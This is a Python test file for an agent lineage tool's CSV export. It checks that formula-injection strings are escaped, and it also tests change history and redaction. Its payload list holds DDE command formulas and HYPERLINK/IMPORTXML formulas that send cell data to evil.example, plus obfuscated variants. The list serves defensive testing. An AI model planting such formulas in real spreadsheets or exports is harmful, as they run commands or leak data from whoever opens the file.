"""CSV exports are opened in spreadsheets, and what agents wrote must not run there."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.promises import promise
from tests.toolsets.agent import Agent

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    "\u0085=1+1",
    "\u001f\u200d =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
HARMLESS = ("plain", "1+1=2", "a@example.org", "x-y", "(=1)", '"=1"', "'=1", "Größe = 3", "")


def cells(agent: Agent, text: str) -> dict[str, str]:
    node = {"id": "n", "type": "t", "attrs": {}}
    agent.write(op="UPSERT_NODE", node=node, reason=text or None, run_context={"job_id": "job"})
    (row,) = csv.DictReader(io.StringIO(agent.lineage("n", format="csv")["csv"], newline=""))
    return row


@promise("L48, payloads", "known formula payloads become text, in every column")
@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_a_formula_becomes_text_and_stays_readable(agent: Agent, payload: str) -> None:
    assert cells(agent, payload)["reason"] == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_what_is_no_formula_is_left_as_it_is(agent: Agent, text: str) -> None:
    assert cells(agent, text)["reason"] == text


def test_every_column_that_a_writer_fills_is_guarded(agent: Agent) -> None:
    agent.write(
        op="UPSERT_NODE",
        node={"id": "=n", "type": "=t", "attrs": {"=key": "=value"}},
        actor="=actor",
        reason="=reason",
        run_context={"run_id": "=run", "job_id": "=job", "dataset_id": "=data"},
    )
    agent.write(op="UPSERT_NODE", node={"id": "=n", "type": "=t", "attrs": {"=key": "=other"}})
    agent.write(op="UPSERT_EDGE", edge={"from": "=n", "rel": "=rel", "to": "=n"})
    text = agent.lineage("=n", depth="full", format="csv")["csv"]
    found = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in found if cell.lstrip().startswith(("=", "+", "-", "@"))] == []
    assert sum(cell.startswith("'=") for cell in found) >= 7


def rows_of(agent: Agent, entity_id: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(agent.lineage(entity_id, format="csv")["csv"], newline="")))


def test_every_row_has_the_policy_and_the_old_and_new_values(agent: Agent) -> None:
    for status in ("open", "done"):
        agent.write(op="UPSERT_NODE", node={"id": "n", "type": "task", "attrs": {"status": status}})
    agent.write(op="DELETE_NODE", node_id="n")
    created, updated, deleted = rows_of(agent, "n")
    assert json.loads(created["changes"]) == {"type": "task", "attrs.status": "open"}
    assert (updated["changes"], updated["before"]) == ('{"attrs.status":"done"}', '{"attrs.status":"open"}')
    assert json.loads(deleted["before"]) == {"type": "task", "attrs.status": "done"}
    assert json.loads(deleted["changes"]) == {"type": None, "attrs.status": None}
    assert all(row["policy_version"] for row in (created, updated, deleted))


def test_a_row_that_leaves_out_a_value_is_marked(agent: Agent) -> None:
    for text in ("short", "x" * 40_000):
        agent.write(op="UPSERT_NODE", node={"id": "n", "type": "note", "attrs": {"text": text}})
    assert [row["oversize"] for row in rows_of(agent, "n")] == ["", "true"]


def test_what_was_redacted_is_in_no_row(agent: Agent) -> None:
    agent.write(op="UPSERT_NODE", node={"id": "n", "type": "note", "attrs": {"by": "Jane Doe"}})
    agent.write(op="REDACT_NODE", node_id="n", redacted_fields=["attrs.by"], reason="asked")
    agent.write(op="DELETE_NODE", node_id="n")
    assert "Jane" not in str(rows_of(agent, "n"))
    assert json.loads(rows_of(agent, "n")[-1]["before"])["attrs.by"] == "[REDACTED]"
